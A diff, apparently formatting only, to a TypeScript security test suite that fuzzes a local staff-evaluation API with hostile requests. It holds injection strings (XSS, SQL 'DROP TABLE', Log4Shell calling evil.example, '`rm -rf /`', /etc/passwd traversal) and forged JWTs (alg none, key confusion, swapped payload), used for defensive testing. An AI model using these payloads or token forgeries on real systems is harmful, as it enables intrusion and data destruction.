@@ -17,21 +17,21 @@ import { mkdtempSync, readdirSync } from 'node:fs';
 import { request } from 'node:http';
 import { tmpdir } from 'node:os';
 import path from 'node:path';
-import { DynamoDBClient, ScanCommand, type AttributeValue } from '@aws-sdk/client-dynamodb';
+import { type AttributeValue, DynamoDBClient, ScanCommand } from '@aws-sdk/client-dynamodb';
 import Ajv2020 from 'ajv/dist/2020';
 import fc from 'fast-check';
 import { base64url, generateKeyPair, SignJWT } from 'jose';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { z } from 'zod';
-import { LOCAL_JWT_AUDIENCE, LOCAL_JWT_ISSUER, mintLocalToken, type MintLocalTokenOptions } from '../../local/http';
-import { ROUTES, type Route } from '../../shared/http/routes';
+import { LOCAL_JWT_AUDIENCE, LOCAL_JWT_ISSUER, type MintLocalTokenOptions, mintLocalToken } from '../../local/http';
 import { seedRoster } from '../../local/run-cycle';
 import { loadSampleAgency } from '../../local/sample/schema';
-import { startLocalStack, type LocalStack } from '../../local/stack';
-import { API_DOCS, buildOpenApiDocument, pathParamSchema } from '../../shared/http/openapi';
-import { EvaluationStatusSchema } from '../../shared/domain/lifecycle/status';
+import { type LocalStack, startLocalStack } from '../../local/stack';
 import { parseRosterCsv } from '../../shared/application/roster/roster-import';
+import { EvaluationStatusSchema } from '../../shared/domain/lifecycle/status';
 import { CommentListQuerySchema, IkmQuerySchema } from '../../shared/domain/skm/submission';
+import { API_DOCS, buildOpenApiDocument, pathParamSchema } from '../../shared/http/openapi';
+import { ROUTES, type Route } from '../../shared/http/routes';
 
 const SEED = 20_261_129;
 const sample = loadSampleAgency('local/sample/asemrowo.json');
@@ -39,10 +39,14 @@ const CYCLE = `${sample.agencyId}-${sample.year}`;
 const byNip = new Map(sample.employees.map((e) => [e.nip, e]));
 const hr = sample.employees.find((e) => /Subbagian Umum/i.test(e.jabatan) && e.isUnitHead)!;
 /** The subject: a member of staff whose rater plans too; submits an SKP during setup, so a decision exists. */
-const subject = sample.employees.find((e) => !e.external && !e.isUnitHead && e.raterNip && sample.plans.some((p) => p.nip === e.nip) && byNip.get(e.raterNip)?.external !== true)!;
+const subject = sample.employees.find(
+  (e) => !e.external && !e.isUnitHead && e.raterNip && sample.plans.some((p) => p.nip === e.nip) && byNip.get(e.raterNip)?.external !== true,
+)!;
 const rater = byNip.get(subject.raterNip!)!;
 /** Someone with no relation to the subject and no HR role. */
-const outsider = sample.employees.find((e) => !e.external && e.unitId !== subject.unitId && e.nip !== rater.nip && e.nip !== rater.raterNip && e.nip !== hr.nip)!;
+const outsider = sample.employees.find(
+  (e) => !e.external && e.unitId !== subject.unitId && e.nip !== rater.nip && e.nip !== rater.raterNip && e.nip !== hr.nip,
+)!;
 
 let stack: LocalStack;
 let port: number;
@@ -67,29 +71,46 @@ interface Hostile {
   /** A specific status when the rejection is deterministic; any 4xx otherwise. */
   expect?: number;
 }
-interface Answer { status: number; contentType: string; body: string }
+interface Answer {
+  status: number;
+  contentType: string;
+  body: string;
+}
 let requests: Hostile[] = [];
 
 function send(h: Hostile): Promise<Answer> {
   return new Promise((resolve, reject) => {
     const body = h.body === undefined ? undefined : Buffer.isBuffer(h.body) ? h.body : Buffer.from(h.body, 'utf8');
-    const req = request({
-      host: '127.0.0.1', port, method: h.method, path: h.target,
-      headers: { 'user-agent': 'hostile-suite/1', ...(body ? { 'content-type': 'application/json', 'content-length': body.length } : {}), ...h.headers },
-    }, (res) => {
-      const chunks: Buffer[] = [];
-      res.on('data', (c: Buffer) => chunks.push(c));
-      res.on('end', () => resolve({ status: res.statusCode ?? 0, contentType: String(res.headers['content-type'] ?? ''), body: Buffer.concat(chunks).toString('utf8') }));
-      res.on('error', reject);
-    });
+    const req = request(
+      {
+        host: '127.0.0.1',
+        port,
+        method: h.method,
+        path: h.target,
+        headers: { 'user-agent': 'hostile-suite/1', ...(body ? { 'content-type': 'application/json', 'content-length': body.length } : {}), ...h.headers },
+      },
+      (res) => {
+        const chunks: Buffer[] = [];
+        res.on('data', (c: Buffer) => chunks.push(c));
+        res.on('end', () =>
+          resolve({ status: res.statusCode ?? 0, contentType: String(res.headers['content-type'] ?? ''), body: Buffer.concat(chunks).toString('utf8') }),
+        );
+        res.on('error', reject);
+      },
+    );
     req.on('error', reject);
     req.end(body);
   });
 }
 
 const canonical = (v: unknown): string =>
-  Array.isArray(v) ? `[${v.map(canonical).join(',')}]`
-    : v && typeof v === 'object' ? `{${Object.keys(v).sort().map((k) => `${JSON.stringify(k)}:${canonical((v as Record<string, unknown>)[k])}`).join(',')}}`
+  Array.isArray(v)
+    ? `[${v.map(canonical).join(',')}]`
+    : v && typeof v === 'object'
+      ? `{${Object.keys(v)
+          .sort()
+          .map((k) => `${JSON.stringify(k)}:${canonical((v as Record<string, unknown>)[k])}`)
+          .join(',')}}`
       : JSON.stringify(v);
 
 /** The whole table, paged: item count and a hash over every item (order-independent). */
@@ -106,7 +127,13 @@ async function snapshot(): Promise<{ count: number; hash: string; outbox: number
 }
 
 async function api(method: string, target: string, token?: string, body?: unknown) {
-  const res = await send({ category: 'setup', method, target, headers: token ? { authorization: `Bearer ${token}` } : {}, ...(body !== undefined ? { body: JSON.stringify(body) } : {}) });
+  const res = await send({
+    category: 'setup',
+    method,
+    target,
+    headers: token ? { authorization: `Bearer ${token}` } : {},
+    ...(body !== undefined ? { body: JSON.stringify(body) } : {}),
+  });
   return { status: res.status, body: res.body ? JSON.parse(res.body) : undefined };
 }
 const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));
@@ -141,8 +168,15 @@ beforeAll(async () => {
   const keys = await deps.linkKeys().keys();
   validLink = { ...signDecisionLink({ decisionId, action: 'approve', recipient: rater.nip, expiresAt: Math.floor(Date.now() / 1000) + 3600 }, keys.current) };
   expiredLink = { ...signDecisionLink({ decisionId, action: 'approve', recipient: rater.nip, expiresAt: Math.floor(Date.now() / 1000) - 60 }, keys.current) };
-  otherRecipientLink = { ...signDecisionLink({ decisionId, action: 'approve', recipient: outsider.nip, expiresAt: Math.floor(Date.now() / 1000) + 3600 }, keys.current) };
-  missingDecisionLink = { ...signDecisionLink({ decisionId: 'd9999999999999999999999999999999', action: 'approve', recipient: rater.nip, expiresAt: Math.floor(Date.now() / 1000) + 3600 }, keys.current) };
+  otherRecipientLink = {
+    ...signDecisionLink({ decisionId, action: 'approve', recipient: outsider.nip, expiresAt: Math.floor(Date.now() / 1000) + 3600 }, keys.current),
+  };
+  missingDecisionLink = {
+    ...signDecisionLink(
+      { decisionId: 'd9999999999999999999999999999999', action: 'approve', recipient: rater.nip, expiresAt: Math.floor(Date.now() / 1000) + 3600 },
+      keys.current,
+    ),
+  };
 
   // Quiet: the planning stage waits on people (a one-day task-token timeout at real time).
   let last = await snapshot();
@@ -156,18 +190,52 @@ beforeAll(async () => {
   before = last;
   requests = await buildRequests();
 }, 120_000);
-afterAll(async () => { await stack?.stop(); });
-
+afterAll(async () => {
+  await stack?.stop();
+});
 
 // ─── what hostile looks like ───────────────────────────────────────────────────────────────────────
 
 const INJECTIONS = [
-  '<script>alert(1)</script>', '"><img src=x onerror=alert(1)>', "' OR 1=1 --", "'; DROP TABLE evaluations; --", '${jndi:ldap://evil.example/a}',
-  '{"$ne":null}', '../../etc/passwd', '..%2F..%2Fetc%2Fpasswd', '%00', '{{7*7}}', '#{7*7}', '`rm -rf /`', 'PK = :pk OR attribute_exists(PK)',
-  'EVAL#kec-asemrowo-2026#199001012015031001', 'CYCLE#x#UNIT#y', '__proto__', 'constructor', 'null', 'undefined', 'NaN', '-1', '1e309', '0x7fffffff',
+  '<script>alert(1)</script>',
+  '"><img src=x onerror=alert(1)>',
+  "' OR 1=1 --",
+  "'; DROP TABLE evaluations; --",
+  '${jndi:ldap://evil.example/a}',
+  '{"$ne":null}',
+  '../../etc/passwd',
+  '..%2F..%2Fetc%2Fpasswd',
+  '%00',
+  '{{7*7}}',
+  '#{7*7}',
+  '`rm -rf /`',
+  'PK = :pk OR attribute_exists(PK)',
+  'EVAL#kec-asemrowo-2026#199001012015031001',
+  'CYCLE#x#UNIT#y',
+  '__proto__',
+  'constructor',
+  'null',
+  'undefined',
+  'NaN',
+  '-1',
+  '1e309',
+  '0x7fffffff',
 ];
 const UNICODE = [
-  '\u202Ekiri-ke-kanan\u202C', 'ab\u200Bcd\u200D', '\uFEFFbom', '😀👩🏽‍💻🇮🇩', '\u0000', 'nul\u0000byte', 'ﷺ', '١٩٩٠٠١٠١٢٠١٥٠٣١٠٠١', '１９９０', 'e\u0301', '\uD800', 'Ω≈ç√∫', '\u0085\u2028\u2029', 'İı',
+  '\u202Ekiri-ke-kanan\u202C',
+  'ab\u200Bcd\u200D',
+  '\uFEFFbom',
+  '😀👩🏽‍💻🇮🇩',
+  '\u0000',
+  'nul\u0000byte',
+  'ﷺ',
+  '١٩٩٠٠١٠١٢٠١٥٠٣١٠٠١',
+  '１９９０',
+  'e\u0301',
+  '\uD800',
+  'Ω≈ç√∫',
+  '\u0085\u2028\u2029',
+  'İı',
 ];
 const hostileString = fc.oneof(
   fc.constantFrom(...INJECTIONS, ...UNICODE),
@@ -178,7 +246,23 @@ const hostileString = fc.oneof(
 );
 const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
   hostileString,
-  fc.constantFrom(null, true, false, 0, -1, 1.5, 1e308, -1e308, Number.MAX_SAFE_INTEGER + 2, [], {}, [null], { $ne: null }, { $gt: '' }, { __proto__: { hr: true } }),
+  fc.constantFrom(
+    null,
+    true,
+    false,
+    0,
+    -1,
+    1.5,
+    1e308,
+    -1e308,
+    Number.MAX_SAFE_INTEGER + 2,
+    [],
+    {},
+    [null],
+    { $ne: null },
+    { $gt: '' },
+    { __proto__: { hr: true } },
+  ),
   fc.array(hostileString, { maxLength: 3 }),
   fc.dictionary(hostileString, hostileString, { maxKeys: 3 }),
 );
@@ -186,7 +270,10 @@ const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
 const ROUTE_KEY = (r: Route) => `${r.method} ${r.path}`;
 const VALID_PARAMS = () => ({ cycleId: CYCLE, nip: subject.nip, unitId: subject.unitId, commentId: 'cmtunknown000001', decisionId });
 /** Percent-encodes every byte outside the unreserved set (lone surrogates become U+FFFD, as a browser would send). */
-const pct = (s: string) => [...Buffer.from(s, 'utf8')].map((b) => (/[A-Za-z0-9\-._~]/.test(String.fromCharCode(b)) ? String.fromCharCode(b) : `%${b.toString(16).toUpperCase().padStart(2, '0')}`)).join('');
+const pct = (s: string) =>
+  [...Buffer.from(s, 'utf8')]
+    .map((b) => (/[A-Za-z0-9\-._~]/.test(String.fromCharCode(b)) ? String.fromCharCode(b) : `%${b.toString(16).toUpperCase().padStart(2, '0')}`))
+    .join('');
 const fill = (template: string, params: Record<string, string>) => template.replace(/\{(\w+)\}/g, (_, n: string) => pct(params[n]!));
 /** The caller who may use a route (so only the hostile part can make it fail). */
 function allowedToken(r: Route): string | undefined {
@@ -198,7 +285,10 @@ function allowedToken(r: Route): string | undefined {
 }
 const auth = (token: string | undefined): Record<string, string> => (token ? { authorization: `Bearer ${token}` } : {});
 const exampleOf = (r: Route) => API_DOCS[ROUTE_KEY(r)]!.body;
-const isJsonBody = (r: Route) => { const b = exampleOf(r); return !!b && (b.contentType ?? 'application/json') === 'application/json'; };
+const isJsonBody = (r: Route) => {
+  const b = exampleOf(r);
+  return !!b && (b.contentType ?? 'application/json') === 'application/json';
+};
 
 function leafPaths(v: unknown, at: (string | number)[] = []): (string | number)[][] {
   if (Array.isArray(v)) return v.flatMap((x, i) => leafPaths(x, [...at, i]));
@@ -209,7 +299,8 @@ function setAt(v: unknown, at: (string | number)[], value: unknown): unknown {
   const copy = structuredClone(v) as Record<string | number, unknown>;
   let node = copy;
   for (const k of at.slice(0, -1)) node = node[k] as Record<string | number, unknown>;
-  if (value === undefined) delete node[at[at.length - 1]!]; else node[at[at.length - 1]!] = value;
+  if (value === undefined) delete node[at[at.length - 1]!];
+  else node[at[at.length - 1]!] = value;
   return copy;
 }
 
@@ -228,14 +319,32 @@ async function forgedTokens(): Promise<{ name: string; header: string }[]> {
     { name: 'Bearer without a token', header: 'Bearer ' },
     { name: 'Basic credentials', header: `Basic ${Buffer.from('hr:hr').toString('base64')}` },
     { name: 'garbage', header: 'Bearer eyJ.hostile.token' },
-    { name: 'alg none', header: `Bearer ${enc({ alg: 'none', typ: 'JWT', kid })}.${enc({ ...claims, iss: LOCAL_JWT_ISSUER, aud: LOCAL_JWT_AUDIENCE, exp: now + 3600, iat: now })}.` },
-    { name: 'HS256 with the key id', header: `Bearer ${await new SignJWT({ ...claims }).setProtectedHeader({ alg: 'HS256', kid }).setIssuer(LOCAL_JWT_ISSUER).setAudience(LOCAL_JWT_AUDIENCE).setIssuedAt().setExpirationTime('1h').sign(new TextEncoder().encode(kid.padEnd(32, 'k')))}` },
-    { name: 'RS256 signed by another key', header: `Bearer ${await new SignJWT({ ...claims }).setProtectedHeader({ alg: 'RS256', kid }).setIssuer(LOCAL_JWT_ISSUER).setAudience(LOCAL_JWT_AUDIENCE).setIssuedAt().setExpirationTime('1h').sign(wrongKey)}` },
+    {
+      name: 'alg none',
+      header: `Bearer ${enc({ alg: 'none', typ: 'JWT', kid })}.${enc({ ...claims, iss: LOCAL_JWT_ISSUER, aud: LOCAL_JWT_AUDIENCE, exp: now + 3600, iat: now })}.`,
+    },
+    {
+      name: 'HS256 with the key id',
+      header: `Bearer ${await new SignJWT({ ...claims })
+        .setProtectedHeader({ alg: 'HS256', kid })
+        .setIssuer(LOCAL_JWT_ISSUER)
+        .setAudience(LOCAL_JWT_AUDIENCE)
+        .setIssuedAt()
+        .setExpirationTime('1h')
+        .sign(new TextEncoder().encode(kid.padEnd(32, 'k')))}`,
+    },
+    {
+      name: 'RS256 signed by another key',
+      header: `Bearer ${await new SignJWT({ ...claims }).setProtectedHeader({ alg: 'RS256', kid }).setIssuer(LOCAL_JWT_ISSUER).setAudience(LOCAL_JWT_AUDIENCE).setIssuedAt().setExpirationTime('1h').sign(wrongKey)}`,
+    },
     { name: 'expired', header: `Bearer ${await mint({ expiresIn: -60 })}` },
     { name: 'wrong issuer', header: `Bearer ${await mint({ issuer: 'https://cognito-idp.ap-southeast-3.amazonaws.com/evil' })}` },
     { name: 'wrong audience', header: `Bearer ${await mint({ audience: 'another-app' })}` },
     { name: 'issued in the future', header: `Bearer ${await mint({ now: new Date(Date.now() + 3_600_000) })}` },
-    { name: 'payload swapped under a genuine signature', header: `Bearer ${h}.${enc({ ...claims, 'custom:nip': outsider.nip, iss: LOCAL_JWT_ISSUER, aud: LOCAL_JWT_AUDIENCE, exp: now + 3600 })}.${s}` },
+    {
+      name: 'payload swapped under a genuine signature',
+      header: `Bearer ${h}.${enc({ ...claims, 'custom:nip': outsider.nip, iss: LOCAL_JWT_ISSUER, aud: LOCAL_JWT_AUDIENCE, exp: now + 3600 })}.${s}`,
+    },
   ];
 }
 
@@ -249,19 +358,31 @@ async function buildRequests(): Promise<Hostile[]> {
     for (const r of jwtRoutes) {
       const body = exampleOf(r);
       out.push({
-        category: `forged JWT: ${forged.name}`, method: r.method, target: fill(r.path, VALID_PARAMS()), expect: 401,
+        category: `forged JWT: ${forged.name}`,
+        method: r.method,
+        target: fill(r.path, VALID_PARAMS()),
+        expect: 401,
         headers: forged.header ? { authorization: forged.header } : {},
-        ...(body ? { body: typeof body.example === 'string' ? body.example : JSON.stringify(body.example), headers: { ...(forged.header ? { authorization: forged.header } : {}), 'content-type': body.contentType ?? 'application/json' } } : {}),
+        ...(body
+          ? {
+              body: typeof body.example === 'string' ? body.example : JSON.stringify(body.example),
+              headers: { ...(forged.header ? { authorization: forged.header } : {}), 'content-type': body.contentType ?? 'application/json' },
+            }
+          : {}),
       });
     }
   }
 
   // 2 · a valid JWT without the scope: an unrelated employee on HR routes and on the subject's records.
-  for (const r of jwtRoutes.filter((x) => allowedToken(x) === tokens.hr || /\/(skp|progress|objection|midyear-review|rating)$|\/evaluations\/\{nip\}$/.test(x.path))) {
+  for (const r of jwtRoutes.filter(
+    (x) => allowedToken(x) === tokens.hr || /\/(skp|progress|objection|midyear-review|rating)$|\/evaluations\/\{nip\}$/.test(x.path),
+  )) {
     if (r.path === '/v1/cycles/{cycleId}/evaluations' || r.path === '/v1/delegations') continue; // open to any employee (own team / own authority)
     const body = exampleOf(r);
     out.push({
-      category: 'valid JWT, out of scope', method: r.method, target: fill(r.path, VALID_PARAMS()),
+      category: 'valid JWT, out of scope',
+      method: r.method,
+      target: fill(r.path, VALID_PARAMS()),
       headers: { ...auth(tokens.outsider), ...(body ? { 'content-type': body.contentType ?? 'application/json' } : {}) },
       ...(body ? { body: typeof body.example === 'string' ? body.example : JSON.stringify(body.example) } : {}),
     });
@@ -273,18 +394,50 @@ async function buildRequests(): Promise<Hostile[]> {
     const names = [...r.path.matchAll(/\{(\w+)\}/g)].map((m) => m[1]!);
     const victim = names[0]!;
     const schema = pathParamSchema(ROUTE_KEY(r), victim)!;
-    const values = sampleOf(hostileString.filter((v) => !(schema as z.ZodType).safeParse(v).success), 7, 100 + i);
-    const second = names[1] ? sampleOf(hostileString.filter((v) => !(pathParamSchema(ROUTE_KEY(r), names[1]!) as z.ZodType).safeParse(v).success), 2, 200 + i) : [];
+    const values = sampleOf(
+      hostileString.filter((v) => !(schema as z.ZodType).safeParse(v).success),
+      7,
+      100 + i,
+    );
+    const second = names[1]
+      ? sampleOf(
+          hostileString.filter((v) => !(pathParamSchema(ROUTE_KEY(r), names[1]!) as z.ZodType).safeParse(v).success),
+          2,
+          200 + i,
+        )
+      : [];
     const body = exampleOf(r);
     const bodyInit = body ? { body: typeof body.example === 'string' ? body.example : JSON.stringify(body.example) } : {};
-    for (const v of values) out.push({ category: `hostile path parameter ${victim}`, method: r.method, target: fill(r.path, { ...VALID_PARAMS(), [victim]: v }), headers: auth(allowedToken(r)), ...bodyInit });
-    for (const v of second) out.push({ category: `hostile path parameter ${names[1]}`, method: r.method, target: fill(r.path, { ...VALID_PARAMS(), [names[1]!]: v }), headers: auth(allowedToken(r)), ...bodyInit });
+    for (const v of values)
+      out.push({
+        category: `hostile path parameter ${victim}`,
+        method: r.method,
+        target: fill(r.path, { ...VALID_PARAMS(), [victim]: v }),
+        headers: auth(allowedToken(r)),
+        ...bodyInit,
+      });
+    for (const v of second)
+      out.push({
+        category: `hostile path parameter ${names[1]}`,
+        method: r.method,
+        target: fill(r.path, { ...VALID_PARAMS(), [names[1]!]: v }),
+        headers: auth(allowedToken(r)),
+        ...bodyInit,
+      });
   });
   // Traversal and odd methods never reach a handler.
-  for (const t of ['/v1/cycles/../../etc/passwd', '/v1/../openapi.json/..', '/v1/cycles/%2e%2e/%2e%2e/etc/passwd', '//v1/cycles', '/v1/cycles/x/evaluations/y/skp/extra', '/V1/CYCLES']) {
+  for (const t of [
+    '/v1/cycles/../../etc/passwd',
+    '/v1/../openapi.json/..',
+    '/v1/cycles/%2e%2e/%2e%2e/etc/passwd',
+    '//v1/cycles',
+    '/v1/cycles/x/evaluations/y/skp/extra',
+    '/V1/CYCLES',
+  ]) {
     out.push({ category: 'path traversal / unknown path', method: 'GET', target: t, headers: auth(tokens.hr) });
   }
-  for (const m of ['DELETE', 'PATCH', 'OPTIONS', 'TRACE']) out.push({ category: 'unrouted method', method: m, target: `/v1/cycles/${CYCLE}`, headers: auth(tokens.hr), expect: 404 });
+  for (const m of ['DELETE', 'PATCH', 'OPTIONS', 'TRACE'])
+    out.push({ category: 'unrouted method', method: m, target: `/v1/cycles/${CYCLE}`, headers: auth(tokens.hr), expect: 404 });
 
   // 4 · hostile bodies: a leaf of the example replaced, a field removed, or the body not an object —
   // only what the handler's own zod schema rejects (so every one of them must be refused).
@@ -294,15 +447,23 @@ async function buildRequests(): Promise<Hostile[]> {
     const schema = doc.schema as z.ZodType;
     const example = doc.example;
     const paths = leafPaths(example);
-    const mutated = fc.oneof(
-      fc.tuple(fc.constantFrom(...paths), hostileValue).map(([p, v]) => setAt(example, p, v)),
-      fc.constantFrom(...paths).map((p) => setAt(example, p, undefined)),
-      hostileValue.filter((v) => typeof v !== 'object' || Array.isArray(v) || v === null),
-      fc.tuple(fc.constantFrom(...paths), hostileValue).map(([p, v]) => ({ __proto_attack__: true, ...(setAt(example, p, v) as object) })),
-    ).filter((b) => !schema.safeParse(b).success);
+    const mutated = fc
+      .oneof(
+        fc.tuple(fc.constantFrom(...paths), hostileValue).map(([p, v]) => setAt(example, p, v)),
+        fc.constantFrom(...paths).map((p) => setAt(example, p, undefined)),
+        hostileValue.filter((v) => typeof v !== 'object' || Array.isArray(v) || v === null),
+        fc.tuple(fc.constantFrom(...paths), hostileValue).map(([p, v]) => ({ __proto_attack__: true, ...(setAt(example, p, v) as object) })),
+      )
+      .filter((b) => !schema.safeParse(b).success);
     for (const b of sampleOf(mutated, 10, 300 + i)) {
       const text = JSON.stringify(b)?.replace('"__proto_attack__":true', '"__proto__":{"roles":["hr"],"isHr":true}') ?? 'null';
-      out.push({ category: 'hostile body (wrong type, missing field, unicode, injection)', method: r.method, target: fill(r.path, VALID_PARAMS()), headers: auth(allowedToken(r)), body: text });
+      out.push({
+        category: 'hostile body (wrong type, missing field, unicode, injection)',
+        method: r.method,
+        target: fill(r.path, VALID_PARAMS()),
+        headers: auth(allowedToken(r)),
+        body: text,
+      });
     }
     // Not JSON at all.
     for (const raw of ['{', '{"year":2026,}', "{'year':2026}", 'NaN', '\u0000', '{"a":"\\ud8', '\uFEFF{}x', '[1,2,3']) {
@@ -313,12 +474,26 @@ async function buildRequests(): Promise<Hostile[]> {
   // 5 · huge bodies: over the local API's 1 MiB (API Gateway itself answers), and between 256 KB and
   // 1 MiB (the handler answers) — valid JSON, with an allowed caller.
   for (const r of ROUTES) {
-    out.push({ category: 'huge body (> 1 MiB, API Gateway limit)', method: r.method === 'HEAD' ? 'POST' : r.method, target: fill(r.path, VALID_PARAMS()), headers: auth(allowedToken(r)), body: `{"pad":"${'x'.repeat(1024 * 1024)}"}`, expect: 413 });
+    out.push({
+      category: 'huge body (> 1 MiB, API Gateway limit)',
+      method: r.method === 'HEAD' ? 'POST' : r.method,
+      target: fill(r.path, VALID_PARAMS()),
+      headers: auth(allowedToken(r)),
+      body: `{"pad":"${'x'.repeat(1024 * 1024)}"}`,
+      expect: 413,
+    });
   }
   for (const r of bodyRoutes) {
     const example = exampleOf(r)!.example as Record<string, unknown>;
     const limit = r.auth === 'none' ? 8 * 1024 : 256 * 1024;
-    out.push({ category: 'huge body (over the handler limit)', method: r.method, target: fill(r.path, VALID_PARAMS()), headers: auth(allowedToken(r)), body: JSON.stringify({ ...example, pad: 'x'.repeat(limit + 10) }), expect: 413 });
+    out.push({
+      category: 'huge body (over the handler limit)',
+      method: r.method,
+      target: fill(r.path, VALID_PARAMS()),
+      headers: auth(allowedToken(r)),
+      body: JSON.stringify({ ...example, pad: 'x'.repeat(limit + 10) }),
+      expect: 413,
+    });
   }
 
   // 6 · deep nesting.
@@ -330,46 +505,90 @@ async function buildRequests(): Promise<Hostile[]> {
       const text = JSON.stringify({ ...example, [first]: 0 }).replace(`"${first}":0`, `"${first}":${nested}`);
       out.push({ category: 'deeply nested body', method: r.method, target: fill(r.path, VALID_PARAMS()), headers: auth(allowedToken(r)), body: text });
     }
-    out.push({ category: 'deeply nested body', method: r.method, target: fill(r.path, VALID_PARAMS()), headers: auth(allowedToken(r)), body: `${'{"a":'.repeat(30_000)}1${'}'.repeat(30_000)}` });
+    out.push({
+      category: 'deeply nested body',
+      method: r.method,
+      target: fill(r.path, VALID_PARAMS()),
+      headers: auth(allowedToken(r)),
+      body: `${'{"a":'.repeat(30_000)}1${'}'.repeat(30_000)}`,
+    });
   });
 
   // 7 · hostile query strings.
   const q = (params: Record<string, string>) => `?${new URLSearchParams(params).toString()}`;
-  const listArb = fc.record({
-    unitId: fc.oneof(fc.constant(subject.unitId), fc.string({ minLength: 65, maxLength: 200 })),
-    status: fc.oneof(fc.constant('SKP_DRAFT'), hostileString),
-    limit: fc.oneof(fc.constantFrom('0', '-1', '501', '1e9', 'abc', '1.5', '', '10'), hostileString),
-  }).filter((x) => !(x.unitId.length <= 64 && EvaluationStatusSchema.safeParse(x.status).success && z.coerce.number().int().min(1).max(500).safeParse(x.limit).success));
-  for (const x of sampleOf(listArb, 20, 400)) out.push({ category: 'hostile query (list filters)', method: 'GET', target: `/v1/cycles/${CYCLE}/evaluations${q(x)}`, headers: auth(tokens.hr) });
-  const commentsArb = fc.record({
-    status: fc.oneof(fc.constant('PENDING'), hostileString),
-    unitId: fc.oneof(fc.constant(subject.unitId), hostileString),
-    limit: fc.oneof(fc.constantFrom('0', '101', 'abc', '10'), hostileString),
-  }).filter((x) => !CommentListQuerySchema.safeParse(x).success);
-  for (const x of sampleOf(commentsArb, 15, 401)) out.push({ category: 'hostile query (SKM comments)', method: 'GET', target: `/v1/skm/comments${q(x)}`, headers: auth(tokens.hr) });
-  for (const period of sampleOf(fc.oneof(hostileString, fc.constantFrom('2026-13', '2026-00', '26-01', '2026-1', '2026-01-01')).filter((period) => !IkmQuerySchema.safeParse({ period }).success), 10, 402)) {
+  const listArb = fc
+    .record({
+      unitId: fc.oneof(fc.constant(subject.unitId), fc.string({ minLength: 65, maxLength: 200 })),
+      status: fc.oneof(fc.constant('SKP_DRAFT'), hostileString),
+      limit: fc.oneof(fc.constantFrom('0', '-1', '501', '1e9', 'abc', '1.5', '', '10'), hostileString),
+    })
+    .filter(
+      (x) =>
+        !(x.unitId.length <= 64 && EvaluationStatusSchema.safeParse(x.status).success && z.coerce.number().int().min(1).max(500).safeParse(x.limit).success),
+    );
+  for (const x of sampleOf(listArb, 20, 400))
+    out.push({ category: 'hostile query (list filters)', method: 'GET', target: `/v1/cycles/${CYCLE}/evaluations${q(x)}`, headers: auth(tokens.hr) });
+  const commentsArb = fc
+    .record({
+      status: fc.oneof(fc.constant('PENDING'), hostileString),
+      unitId: fc.oneof(fc.constant(subject.unitId), hostileString),
+      limit: fc.oneof(fc.constantFrom('0', '101', 'abc', '10'), hostileString),
+    })
+    .filter((x) => !CommentListQuerySchema.safeParse(x).success);
+  for (const x of sampleOf(commentsArb, 15, 401))
+    out.push({ category: 'hostile query (SKM comments)', method: 'GET', target: `/v1/skm/comments${q(x)}`, headers: auth(tokens.hr) });
+  for (const period of sampleOf(
+    fc
+      .oneof(hostileString, fc.constantFrom('2026-13', '2026-00', '26-01', '2026-1', '2026-01-01'))
+      .filter((period) => !IkmQuerySchema.safeParse({ period }).success),
+    10,
+    402,
+  )) {
     out.push({ category: 'hostile query (IKM period)', method: 'GET', target: `/v1/public/units/${subject.unitId}/ikm${q({ period })}` });
   }
 
   // 8 · forged and garbled pagination cursors (the HR list and the SKM moderation queue).
   const cursors = [
     ...sampleOf(hostileString, 8, 500),
-    ...sampleOf(fc.string({ unit: 'binary', minLength: 1, maxLength: 40 }).map((s) => Buffer.from(s).toString('base64url')), 4, 501),
-    Buffer.from('[1,2,3]').toString('base64url'), Buffer.from('{"PK":{"S":"x"}}').toString('base64url'), Buffer.from('"just a string"').toString('base64url'),
-    Buffer.from(JSON.stringify({ PK: 'x'.repeat(400) })).toString('base64url'), 'x'.repeat(2001),
+    ...sampleOf(
+      fc.string({ unit: 'binary', minLength: 1, maxLength: 40 }).map((s) => Buffer.from(s).toString('base64url')),
+      4,
+      501,
+    ),
+    Buffer.from('[1,2,3]').toString('base64url'),
+    Buffer.from('{"PK":{"S":"x"}}').toString('base64url'),
+    Buffer.from('"just a string"').toString('base64url'),
+    Buffer.from(JSON.stringify({ PK: 'x'.repeat(400) })).toString('base64url'),
+    'x'.repeat(2001),
   ];
   for (const cursor of cursors) {
-    out.push({ category: 'forged cursor (HR list)', method: 'GET', target: `/v1/cycles/${CYCLE}/evaluations${q({ unitId: subject.unitId, cursor })}`, headers: auth(tokens.hr), expect: 400 });
+    out.push({
+      category: 'forged cursor (HR list)',
+      method: 'GET',
+      target: `/v1/cycles/${CYCLE}/evaluations${q({ unitId: subject.unitId, cursor })}`,
+      headers: auth(tokens.hr),
+      expect: 400,
+    });
     out.push({ category: 'forged cursor (SKM queue)', method: 'GET', target: `/v1/skm/comments${q({ cursor })}`, headers: auth(tokens.hr), expect: 400 });
   }
-  for (const key of [{ PK: 'x', SK: 'y' }, { GSI1PK: `CYCLE#${CYCLE}#UNIT#${subject.unitId}`, GSI1SK: 'STATUS#SKP_DRAFT#0', PK: 'EVAL#x', SK: 'EVAL' }]) {
+  for (const key of [
+    { PK: 'x', SK: 'y' },
+    { GSI1PK: `CYCLE#${CYCLE}#UNIT#${subject.unitId}`, GSI1SK: 'STATUS#SKP_DRAFT#0', PK: 'EVAL#x', SK: 'EVAL' },
+  ]) {
     const payload = Buffer.from(JSON.stringify(key)).toString('base64url');
-    out.push({ category: 'forged cursor (SKM queue)', method: 'GET', target: `/v1/skm/comments${q({ cursor: `${payload}.${'A'.repeat(43)}` })}`, headers: auth(tokens.hr), expect: 400 });
+    out.push({
+      category: 'forged cursor (SKM queue)',
+      method: 'GET',
+      target: `/v1/skm/comments${q({ cursor: `${payload}.${'A'.repeat(43)}` })}`,
+      headers: auth(tokens.hr),
+      expect: 400,
+    });
   }
 
   // 9 · forged decision links: GET (page), HEAD (a scanner) and POST (the form) — never a genuine POST.
   // Real links carry d in the path only.
-  const link = (fields: Record<string, string>, id = decisionId) => `/v1/decisions/${pct(id)}${q(Object.fromEntries(Object.entries(fields).filter(([f]) => f !== 'd')))}`;
+  const link = (fields: Record<string, string>, id = decisionId) =>
+    `/v1/decisions/${pct(id)}${q(Object.fromEntries(Object.entries(fields).filter(([f]) => f !== 'd')))}`;
